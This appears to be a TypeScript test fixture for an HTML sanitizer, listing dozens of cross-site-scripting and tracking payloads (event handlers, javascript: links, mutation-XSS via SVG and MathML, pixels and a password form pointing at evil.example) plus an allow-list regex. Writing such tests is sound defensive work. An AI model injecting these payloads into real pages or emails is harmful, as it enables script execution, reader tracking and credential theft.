/**
 * HTML that would run, fetch, hide or change something if a mail program or a browser took it as it is. Each has the word `harmless`,
 * which readers must still see, and calls `hit` where it can run.
 */
export const hostileHtml: readonly string[] = [
  // Scripts and handlers
  '<script>hit()</script><p>harmless</p>',
  '<SCRIPT src=//evil.example></SCRIPT ><p>harmless</p>',
  '<scr<script>hit()</script>ipt>hit()</script><p>harmless</p>',
  '<p onclick=hit() onmouseover="hit()" autofocus onfocus=hit() tabindex=1>harmless</p>',
  '<p/onclick=hit()>harmless</p>',
  '<p title="a>b" onclick="hit()">harmless</p>',
  '<img src=x onerror=hit()><p>harmless</p>',
  '<body onload=hit()><p>harmless</p></body>',
  '<details open ontoggle=hit()><summary>x</summary></details><p>harmless</p>',
  '<video><source onerror=hit()></video><audio src=x onerror=hit()></audio><p>harmless</p>',
  // Addresses
  '<a href="javascript:hit()">harmless</a>',
  '<a href="java&#9;script:hit()">harmless</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">harmless</a>',
  '<a href="vbscript:hit()">harmless</a>',
  '<iframe src="javascript:hit()"></iframe><iframe srcdoc="<script>hit()</script>"></iframe><p>harmless</p>',
  '<object data="data:text/html,<script>hit()</script>"></object><embed src="data:image/svg+xml,x"><p>harmless</p>',
  // Requests that tell the sender who reads
  '<img src="https://evil.example/pixel.png?who=you" width=1 height=1><p>harmless</p>',
  '<p style="background:url(https://evil.example/p)">harmless</p><table background="https://evil.example/t"><tr><td></td></tr></table>',
  '<link rel=stylesheet href="https://evil.example/a.css"><p>harmless</p>',
  '<style>@import "https://evil.example/a.css"; p{background:url(https://evil.example/b)}</style><p>harmless</p>',
  '<input type=image src="https://evil.example/i" onerror=hit()><p>harmless</p>',
  // The page as a whole
  '<meta http-equiv=refresh content="0;url=https://evil.example"><p>harmless</p>',
  '<base href="https://evil.example/"><p>harmless</p>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:hit()">harmless</button></form>',
  '<p style="position:fixed;inset:0;z-index:9999">harmless</p>',
  '<p id=main class=MuiDialog-root>harmless</p><p name=cookie>x</p>',
  '<dialog open>harmless</dialog><portal src="https://evil.example"></portal>',
  // Foreign content, and markup that changes its meaning when it is parsed again
  '<svg onload=hit()><script>hit()</script><a xlink:href="javascript:hit()"><text>x</text></a></svg><p>harmless</p>',
  '<svg><style><img src=x onerror=hit()></style></svg><p>harmless</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;"></mglyph></table></mtext></math><p>harmless</p>',
  '<math><annotation-xml encoding="text/html"><script>hit()</script></annotation-xml></math><p>harmless</p>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript><p>harmless</p>',
  '<noembed><img src=x onerror=hit()></noembed><noframes><img src=x onerror=hit()></noframes><p>harmless</p>',
  '<template><img src=x onerror=hit()></template><p>harmless</p>',
  '<textarea></textarea><img src=x onerror=hit()><p>harmless</p>',
  '<title><a title="</title><img src=x onerror=hit()>">x</a></title><p>harmless</p>',
  '<xmp><p title="</xmp><img src=x onerror=hit()>"></xmp><p>harmless</p>',
  '<select><option><img src=x onerror=hit()></option></select><p>harmless</p>',
  '<p>harmless</p><!--><img src=x onerror=hit()>-->',
  '<p>harmless</p><!--- --!><img src=x onerror=hit()> -->',
  '<p>harmless</p><![CDATA[<img src=x onerror=hit()>]]>',
  '<?xml version="1.0"?><p>harmless</p><?php hit() ?>',
  '<p>harmless</p></p></div></main></body></html><img src=x onerror=hit()>',
  '<p>harmless</p>&lt;img src=x onerror=hit()&gt;&#60;script&#62;hit()&#60;/script&#62;',
  '<p>harmless<b><p>x</b><i>y</p><table><p>z</table></i>',
  '<custom-element onconnected=hit()><slot>harmless</slot></custom-element>',
  '<p>harmless</p><img src="x` `<script>hit()</script>"` `>',
  `<p>harmless</p><p ${'a'.repeat(600)}="x" onclick=hit()>y`,
];

/** The same with control characters, which the API accepts nowhere. */
export const hostileControls = '<p>harmless</p><\u0000script>hit()</script><img\u000bsrc=x\u000conerror=hit()>';

/** What rich text may consist of. */
export const onlyMarks = /^(?:[^<>]|<\/?(?:p|h[2-4]|strong|em|u|ul|ol|li)>|<br>)*$/;
